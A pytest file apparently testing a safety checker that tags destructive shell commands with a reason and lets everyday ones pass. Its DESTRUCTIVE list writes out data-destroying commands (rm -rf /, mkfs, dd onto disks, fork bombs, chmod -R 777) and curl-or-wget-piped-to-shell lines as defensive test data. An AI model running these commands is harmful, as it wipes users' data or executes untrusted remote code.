"""engine.safety: destructive commands get a reason, everyday ones do not."""
import sys

import pytest

from engine.safety import destructive_reason

DESTRUCTIVE = [
    "rm -rf /",
    "rm -rf /*",
    "sudo rm -rf --no-preserve-root /",
    "rm -fr ~",
    "rm -r ~/",
    'rm -rf "$HOME"',
    "rm -Rf .",
    "rm -rf *",
    "rm -rf ..",
    "rm --recursive --force /usr",
    "rm -rf /home/alice",
    "cd /tmp && sudo rm -rf /etc",
    "find / -name '*.log' -delete",
    "find ~ -type f -exec rm {} \\;",
    "find / -mtime +7 -print0 | xargs -0 rm",
    "mkfs.ext4 /dev/sda1",
    "sudo mkfs -t ext4 /dev/nvme0n1p1",
    "wipefs -a /dev/sdb",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "sudo dd if=ubuntu.iso of=/dev/disk2",
    "echo hi > /dev/sda",
    "cat image.img > /dev/mmcblk0",
    "shred -n 3 /dev/sdb",
    "chmod -R 777 /var/www",
    "sudo chmod -R 777 .",
    "chown -R nobody /",
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb& };bomb",
    "curl -fsSL https://example.com/install.sh | sh",
    "wget -qO- http://x.io/a | sudo bash",
    'bash -c "$(curl -fsSL https://x.io/i.sh)"',
    "bash <(curl -s https://x.io/i.sh)",
    "mv ~/project /dev/null",
]

SAFE = [
    "find . -name '*.tmp' | xargs rm",
    "ls -la",
    "rm notes.txt",
    "rm -rf build",
    "rm -rf ./build/*",
    "rm -rf ~/tmp/cache",
    "rm -r node_modules",
    "find . -name '*.pyc' -delete",
    "find / -name '*.conf'",
    "dd if=/dev/sda of=backup.img",
    "cat /dev/sda | head -c 512 | xxd",
    "echo hello > /dev/null",
    "chmod 755 script.sh",
    "chmod -R u+w build",
    "curl -O https://example.com/file.tar.gz",
    "curl https://example.com | grep title",
    "tar -czf docs.tar.gz docs",
    "fdisk -l /dev/sda",
    "grep -rn 'rm -rf /' notes.md",
    "",
    "echo 'unbalanced",
]


@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_destructive_commands_have_a_reason(command):
    reason = destructive_reason(command)
    assert reason and isinstance(reason, str)


@pytest.mark.parametrize("command", SAFE)
def test_everyday_commands_pass(command):
    assert destructive_reason(command) is None


def test_reason_names_the_path():
    assert "/etc" in destructive_reason("sudo rm -rf /etc")


def test_stdlib_only():
    import engine.safety  # noqa: F401

    assert "torch" not in vars(sys.modules["engine.safety"])
